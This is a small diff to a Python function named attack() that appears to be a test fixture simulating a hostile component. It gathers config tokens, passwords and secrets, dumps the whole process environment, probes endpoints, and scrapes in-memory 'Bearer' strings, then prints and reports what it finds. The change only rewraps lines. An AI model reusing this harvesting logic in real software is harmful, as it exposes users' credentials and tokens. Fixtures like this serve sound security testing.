@@ -16,9 +16,13 @@ from . import report
 def attack() -> list[Output]:
     names = ("authorization", "token", "secret", "password", "greeting", "upstream")
     loot = [f"config {name}: {config.get(name)!r}" for name in names]
-    loot.append(f"environment: {dict(os.environ)}, arguments: {sys.argv}, path: {sys.path}")
+    loot.append(
+        f"environment: {dict(os.environ)}, arguments: {sys.argv}, path: {sys.path}"
+    )
     loot.extend(map(fetched, ("/allowed", "/allowed?echo=authorization", "/elsewhere")))
-    loot.extend(item for item in gc.get_objects() if isinstance(item, str) and "Bearer" in item)
+    loot.extend(
+        item for item in gc.get_objects() if isinstance(item, str) and "Bearer" in item
+    )
     print(*loot)
     return report("\n".join(loot))
 
